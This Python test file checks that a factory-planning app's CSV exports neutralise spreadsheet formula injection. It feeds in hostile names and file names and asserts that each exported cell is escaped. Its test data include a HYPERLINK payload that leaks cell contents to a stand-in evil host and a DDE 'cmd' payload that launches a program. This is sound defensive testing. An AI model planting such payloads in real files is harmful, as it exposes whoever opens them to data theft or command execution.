"""No CSV this app writes has a text cell a spreadsheet would run as a formula, whatever the
names and descriptions hold (OWASP "CSV injection": cells starting with = + - @ tab or CR)."""

from __future__ import annotations

import csv
import os
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from factory_app.cli import main
from factory_app.factory.evaluation import evaluate_factory
from factory_app.io.compare_table import CompareEntry, write_compare_csv
from factory_app.io.csv_export import FORMULA_STARTS, write_results_csv
from factory_app.io.scenario_file import load_scenario, save_scenario
from reliability_helpers import EXAMPLES, examples

pytestmark = pytest.mark.reliability  # property and attack tests (docs/reliability.md)

HOSTILE = st.one_of(
    st.sampled_from([
        '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        '"=1+1"', "a\n=1+1", "=1+1\n", '=""', "-", "+", "@", "=" * 10_000, "＝1+1", "\u200b=1+1", "Ｈ100 ✓ 日本語 💥",
    ]),
    st.tuples(st.sampled_from(FORMULA_STARTS + ("", " ", '"', "'")), st.text(max_size=30)).map("".join),
)


def hostile_scenario(base, names) -> object:
    """``base`` with every name and description replaced by hostile text."""
    it = iter(names)
    fleets = tuple(replace(f, name=next(it)) for f in base.fleets)
    workloads = tuple(replace(w, name=next(it)) for w in base.workloads)
    return replace(base, name=next(it), description=next(it), site=replace(base.site, name=next(it)), fleets=fleets, workloads=workloads)


def assert_no_formula_cells(path: Path) -> int:
    """Every cell either a plain number or text that does not start with a formula character."""
    cells = 0
    with path.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                cells += 1
                if cell.startswith(FORMULA_STARTS):
                    float(cell)  # only a number may start with '-' (a negative profit), never text
    return cells


def _run(argv: list[str]) -> int:
    return main([str(a) for a in argv])


@settings(max_examples=examples(100))
@given(example=st.sampled_from(EXAMPLES), names=st.lists(HOSTILE, min_size=16, max_size=16))
def test_every_csv_neutralises_hostile_names(tmp_path_factory, example, names):
    d = tmp_path_factory.mktemp("csv")
    base = load_scenario(example)
    scenario = hostile_scenario(base, names)
    hostile = d / "hostile.json"
    save_scenario(scenario, hostile)
    assert load_scenario(hostile) == scenario  # hostile names are valid names: kept as typed

    assert _run(["evaluate", hostile, "--csv", d / "evaluate.csv", "--json"]) in (0, 1)
    assert _run(["sweep", hostile, "--vary", "site.electricity_usd_per_kwh=0.05:0.1:2", "--csv", d / "sweep.csv"]) == 0
    assert _run(["compare", hostile, example, "--csv", d / "compare.csv"]) == 0
    write_results_csv(d / "ui.csv", scenario, evaluate_factory(scenario))  # File > Export results CSV
    result = evaluate_factory(scenario)
    write_compare_csv(d / "ui-compare.csv", [CompareEntry(names[0], names[1], result), CompareEntry(names[2], names[3], result)])
    for name in ("evaluate.csv", "sweep.csv", "compare.csv", "ui.csv", "ui-compare.csv"):
        assert assert_no_formula_cells(d / name) > 0


def test_names_come_back_whole_after_the_quote(tmp_path):
    """Neutralising adds one leading quote and changes nothing else: embedded quotes, line breaks
    and 10,000 characters survive the CSV round trip."""
    names = ['=HYPERLINK("x","y")', "a\nb", '"quoted"', "=" * 10_000, "+1", "ok"]
    base = load_scenario(EXAMPLES[0])
    s = replace(base, name=names[0], description=names[1], site=replace(base.site, name=names[2]),
                fleets=tuple(replace(f, name=names[3]) for f in base.fleets))
    write_results_csv(tmp_path / "r.csv", s, evaluate_factory(s))
    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8", newline="")))
    assert rows[0]["scenario_name"] == "'" + names[0] and rows[0]["site_name"] == '"quoted"'
    fleet_rows = [r for r in rows if r["row_type"] == "fleet"]
    assert fleet_rows and all(r["fleet_name"] == "'" + names[3] for r in fleet_rows)


@pytest.mark.parametrize("file_name", ["=HYPERLINK(1).json", "+1.json", "-2.json", "@SUM.json"])
def test_compare_neutralises_hostile_file_names(tmp_path, file_name, monkeypatch):
    """The compare table's ``file`` column holds the path as given: relative, it starts with the name."""
    monkeypatch.chdir(tmp_path)
    for i, example in enumerate(EXAMPLES[:2]):
        s = load_scenario(example)
        save_scenario(replace(s, name=""), tmp_path / (file_name if i == 0 else "plain.json"))  # no name: the file's stem stands in
    assert main(["compare", "--csv", "out.csv", "--", file_name, "plain.json"]) == 0  # "--": a name may start with "-"
    assert assert_no_formula_cells(tmp_path / "out.csv") > 0
    rows = list(csv.DictReader(open(tmp_path / "out.csv", encoding="utf-8", newline="")))
    assert {r["file"] for r in rows} == {"'" + file_name, "plain.json"}
    assert os.path.exists(tmp_path / file_name)
